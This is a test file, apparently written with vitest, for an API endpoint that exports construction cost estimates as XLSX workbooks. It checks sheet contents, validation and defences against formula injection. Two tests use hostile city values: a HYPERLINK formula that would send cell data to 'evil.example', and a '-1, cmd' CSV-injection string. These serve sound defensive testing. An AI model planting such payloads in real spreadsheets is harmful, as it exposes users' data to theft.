/** POST /api/download-estimate: the XLSX file, read back with an independent reader. */
import { describe, expect, it } from "vitest";
import type { AnswerRecord } from "../../shared/engine/index";
import { additionName } from "../../shared/addition-names";
import { ADDITION_NAMES } from "../../shared/addition-names.data";
import type { QuestionOut } from "../../shared/api/outputs";
import { converse, finalOf, pickAnswer, post, projectData, type ErrorJson } from "./api-helpers";
import { formatOf, formulaLikeCells, readXlsx } from "./xlsx-reader";

// A formula cannot get in as a city (decision 16 allows letters, digits, spaces and . , ' -), but
// a leading minus can: it is written with an apostrophe before it (OWASP's CSV-injection rule).
const HOSTILE_CITY = "-1, cmd";

async function finished(type = "single-family", state = "Texas", city: string | null = "Austin") {
  const pd = projectData(type, state, city);
  const { answers } = await converse(pd);
  return { pd, answers, final: await finalOf(pd, answers) };
}

async function download(pd: unknown, answers: AnswerRecord[], extra: Record<string, unknown> = {}) {
  return post("/api/download-estimate", { projectData: pd, answers, ...extra });
}

describe("POST /api/download-estimate", () => {
  it("sends cost-estimate-{timestamp}.xlsx with the xlsx content type", async () => {
    const { pd, answers } = await finished();
    const res = await download(pd, answers);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe(
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    );
    expect(res.headers.get("content-disposition")).toBe(
      'attachment; filename="cost-estimate-2026-11-21T10-00-00.000Z.xlsx"',
    );
  });

  it("has the sheets Summary, Breakdown, Project budget, Requirements and answers, Comparable projects, What moves your cost, Sources", async () => {
    const { pd, answers } = await finished();
    const book = readXlsx(new Uint8Array(await (await download(pd, answers)).arrayBuffer()));
    expect(book.names).toEqual([
      "Summary",
      "Breakdown",
      "Project budget",
      "Requirements and answers",
      "Comparable projects",
      "What moves your cost",
      "Sources",
    ]);
  });

  it("writes the sixteen divisions as numeric currency cells that add up to the total", async () => {
    const { pd, answers, final } = await finished("office-building", "Illinois", "Chicago");
    const book = readXlsx(new Uint8Array(await (await download(pd, answers)).arrayBuffer()));
    const sheet = book.cells.get("Breakdown")!;
    const amounts = new Map<string, number>();
    for (let row = 2; row <= 17; row++) {
      const cell = sheet.get(`B${row}`)!;
      expect(cell.type).toBe("n");
      expect(cell.value).toMatch(/^\d+$/);
      expect(formatOf(book, cell)).toBe("$#,##0");
      amounts.set(book.text("Breakdown", `A${row}`)!, Number(cell.value));
    }
    expect(Object.fromEntries(amounts)).toEqual(final.costBreakdown.divisions);
    expect(book.text("Breakdown", "A18")).toBe("Total");
    expect(Number(sheet.get("B18")!.value)).toBe(final.costEstimate.expected);
    const values = [...amounts.values()];
    expect(values).toEqual([...values].sort((a, b) => b - a));
  });

  it("puts total, range, per sq ft and the data as-of date on the Summary sheet", async () => {
    const { pd, answers, final } = await finished();
    const book = readXlsx(new Uint8Array(await (await download(pd, answers)).arrayBuffer()));
    const rows = new Map<string, string>();
    for (const [ref] of book.cells.get("Summary")!) {
      if (ref.startsWith("A"))
        rows.set(book.text("Summary", ref)!, book.text("Summary", `B${ref.slice(1)}`) ?? "");
    }
    const e = final.costEstimate;
    expect(rows.get("Location")).toBe("Austin, Texas");
    expect(Number(rows.get("Construction cost"))).toBe(e.expected);
    expect(Number(rows.get("Construction cost, low"))).toBe(e.min);
    expect(Number(rows.get("Construction cost, high"))).toBe(e.max);
    expect(Number(rows.get("Total project cost"))).toBe(final.projectCost.expected);
    expect(Number(rows.get("Total project cost, low"))).toBe(final.projectCost.min);
    expect(Number(rows.get("Total project cost, high"))).toBe(final.projectCost.max);
    expect(Number(rows.get("Construction cost per sq ft"))).toBe(e.costPerSqFt.expected);
    expect(Number(rows.get("Floor area (sq ft)"))).toBe(e.sq_ft);
    expect(rows.get("Prices as of")).toBe(e.asOf);
    expect(rows.get("Included")).toMatch(/16 CSI divisions/i);
    expect(rows.get("Not included")).toMatch(/land/i);
    expect(rows.get("Planned start")).toMatch(/today's price level/);
  });

  it("ignores the numbers a client sends and writes the engine's", async () => {
    const { pd, answers, final } = await finished();
    const res = await download(pd, answers, {
      costBreakdown: { divisions: { Concrete: 1, Finishes: 999_999_999 } },
      requirements: ["Total Project Cost Range: $1 - $2"],
    });
    const book = readXlsx(new Uint8Array(await res.arrayBuffer()));
    expect(Number(book.cells.get("Breakdown")!.get("B18")!.value)).toBe(final.costEstimate.expected);
    const all = JSON.stringify(
      [...book.cells.get("Requirements and answers")!.keys()].map((r) =>
        book.text("Requirements and answers", r),
      ),
    );
    expect(all).not.toContain("$1 - $2");
    // the specification's last line holds the construction range: the workbook says so
    const range = /^Total Project Cost Range: (.*)$/.exec(final.requirements.at(-1)!)![1]!;
    expect(all).toContain(`Construction cost range (10th to 90th percentile; `);
    expect(all).toContain(range);
    expect(all).not.toContain("Total Project Cost Range");
  });

  it("refuses a custom city '=HYPERLINK(…)' with 400 naming projectData.city", async () => {
    const { pd, answers } = await finished();
    const res = await download({ ...pd, city: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' }, answers);
    expect(res.status).toBe(400);
    expect(((await res.json()) as ErrorJson).error.issues?.[0]?.path).toBe("projectData.city");
  });

  it("writes a custom city '-1, cmd' as a text cell, title-cased, neutralised, and no formula anywhere", async () => {
    const { pd, answers } = await finished("single-family", "Texas", HOSTILE_CITY);
    const res = await download(pd, answers);
    expect(res.status).toBe(200);
    const book = readXlsx(new Uint8Array(await res.arrayBuffer()));
    const location = book.cells.get("Summary")!.get("B4")!;
    expect(location.type).toBe("inlineStr");
    expect(location.formula).toBeNull();
    expect(book.text("Summary", "B4")).toBe("'-1, Cmd, Texas");
    expect(formulaLikeCells(book)).toEqual([]);
    for (const [name, xml] of Object.entries(book.files)) {
      if (name.startsWith("xl/worksheets/")) expect(xml).not.toMatch(/<f[ >]/);
    }
  });

  it("lists the questions and answers, and at least one NAHB and one GeoNames source", async () => {
    const { pd, answers } = await finished();
    const book = readXlsx(new Uint8Array(await (await download(pd, answers)).arrayBuffer()));
    const texts = (sheet: string) => [...book.cells.get(sheet)!.keys()].map((r) => book.text(sheet, r) ?? "");
    const qa = texts("Requirements and answers");
    for (const a of answers) expect(qa).toContain(a.question);
    const sources = texts("Sources").join("\n");
    expect(sources).toContain("NAHB");
    expect(sources).toContain("GeoNames");
  });

  it("answers 400 replay_mismatch for a download after three answers", async () => {
    const { pd, answers } = await finished();
    const res = await download(pd, answers.slice(0, 3));
    expect(res.status).toBe(400);
    expect(((await res.json()) as ErrorJson).error.code).toBe("replay_mismatch");
  });

  it("answers 400 for a timestamp that is not a date", async () => {
    const { pd, answers } = await finished();
    const res = await download({ ...pd, timestamp: "yesterday-ish" }, answers);
    expect(res.status).toBe(400);
    expect(((await res.json()) as ErrorJson).error.issues?.[0]?.path).toBe("projectData.timestamp");
  });
  it("names additions as the results page does ('Imaging: X-ray and ultrasound'), never by their ids", async () => {
    // Choose an option that adds something wherever a question offers one.
    const labels = new Set(
      Object.values(ADDITION_NAMES["healthcare"]!).flatMap((list) => list.map((a) => a.label)),
    );
    const choose = (q: QuestionOut) => {
      const letters = ["a", "b", "c", "d", "e", "f"] as const;
      const hit = letters.find((l) => {
        const text = q[`option_${l}`];
        return text !== undefined && labels.has(text.split("(")[0]!.trim());
      });
      return hit ?? pickAnswer(q);
    };
    const pd = projectData("healthcare", "Vermont", "Burlington");
    const { answers } = await converse(pd, choose);
    const final = await finalOf(pd, answers);
    const features = final.costEstimate.features.flatMap((f) => Object.keys(f));
    expect(features.length).toBeGreaterThan(0);
    const book = readXlsx(new Uint8Array(await (await download(pd, answers)).arrayBuffer()));
    const summary = [...book.cells.get("Summary")!.keys()].map((ref) => book.text("Summary", ref) ?? "");
    for (const feature of features) {
      expect(summary).toContain(additionName("healthcare", feature, answers));
      expect(summary).not.toContain(feature.replace(/_/g, " "));
    }
  });
});
